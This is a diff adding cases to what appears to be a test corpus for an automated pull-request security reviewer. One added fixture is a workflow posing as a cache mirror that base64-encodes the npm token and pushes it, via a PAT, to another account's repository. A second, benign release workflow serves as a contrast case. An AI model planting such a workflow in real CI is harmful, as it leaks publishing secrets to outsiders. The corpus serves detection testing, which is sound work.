@@ -1079,6 +1079,85 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-git-push-exfiltration',
+    description:
+      'The GhostAction workflows of September 2025 posted secrets with curl; this variant sends them with git instead: a "mirror the cache" workflow clones another account\'s repository with a PAT, writes the npm token into a file of the clone, and commits and pushes it there: no HTTP client, no collector URL.',
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7747,
+        title: 'ci: mirror the build cache',
+        files: [
+          {
+            path: '.github/workflows/mirror-cache.yml',
+            head: lines(
+              'name: Mirror cache',
+              'on:',
+              '  push:',
+              '    branches: [main]',
+              'permissions:',
+              '  contents: read',
+              'jobs:',
+              '  mirror:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Sync',
+              '        run: |',
+              '          git clone --depth 1 "https://x:${MIRROR_PAT}@github.com/ci-cache-mirror/store.git" store',
+              '          printf \'%s\' "$NPM" | base64 > store/index.b64',
+              '          cd store && git add index.b64 && git -c user.name=ci -c user.email=ci@users.noreply.github.com commit -qm sync && git push -q',
+              '        env:',
+              '          MIRROR_PAT: ${{ secrets.MIRROR_PAT }}',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'benign-release-pushes-changelog-with-npmrc-token',
+    description:
+      "A maintainer's release workflow writes the npm token into ~/.npmrc, bumps the version, and commits and pushes package.json and the changelog: the token stays in the home folder, and only the files git add names leave.",
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7748,
+        title: 'ci: release from the workflow',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            head: lines(
+              'name: Release',
+              'on:',
+              '  workflow_dispatch:',
+              'permissions:',
+              '  contents: write',
+              'jobs:',
+              '  release:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+              '      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0',
+              '        with:',
+              '          node-version: 22',
+              '      - run: echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc',
+              '        env:',
+              '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '      - run: |',
+              '          npm version patch --no-git-tag-version',
+              '          npx changelogen --output CHANGELOG.md',
+              '          git add package.json CHANGELOG.md',
+              '          git -c user.name=release -c user.email=release@users.noreply.github.com commit -m "release: v$(node -p \'require(\\"./package.json\\").version\')"',
+              '          git push',
+              '          npm publish',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-ghostaction-raw-socket-to-ip',
     description:
       'The GhostAction collector of September 2025 rewritten without an HTTP client or a URL: a "report build timings" script opens a raw socket to a bare IP address (held in a constant) and writes the PyPI token into it, base64-encoded.',
